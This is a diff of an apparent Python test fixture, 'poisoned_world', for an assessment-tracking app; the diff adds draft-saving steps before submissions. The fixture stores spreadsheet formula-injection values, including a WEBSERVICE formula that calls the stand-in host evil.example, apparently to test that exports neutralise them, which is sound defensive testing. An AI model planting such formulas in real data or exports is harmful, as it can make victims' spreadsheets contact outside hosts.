@@ -46,6 +46,8 @@ def poisoned_world():
     approved = assessments.start(sam, slmo, 3)
     descriptor = assessments.claimed_descriptors(approved)[0]
     assessments.add_evidence(sam, approved, descriptor_ids=[descriptor.id], text="=1+1")
+    assessments.save_draft(sam, approved, claimed_level=approved.claimed_level,
+                           ratings={d.id: "met" for d in assessments.descriptors_in_view(approved)})
     assessments.submit(sam, approved)
     assessments.decide(boss, approved, outcome="approve", validated_level=2, comment="=WEBSERVICE(\"http://evil.example\")")
     approved.valid_until = utcnow() + timedelta(days=30)
@@ -53,6 +55,8 @@ def poisoned_world():
     late = assessments.start(pat, slmo, 2)
     descriptor = assessments.claimed_descriptors(late)[0]
     assessments.add_evidence(pat, late, descriptor_ids=[descriptor.id], text="mine")
+    assessments.save_draft(pat, late, claimed_level=late.claimed_level,
+                           ratings={d.id: "met" for d in assessments.descriptors_in_view(late)})
     assessments.submit(pat, late)
     late.due_at = utcnow() - timedelta(days=1)
     service_levels.run_checks(SYSTEM)
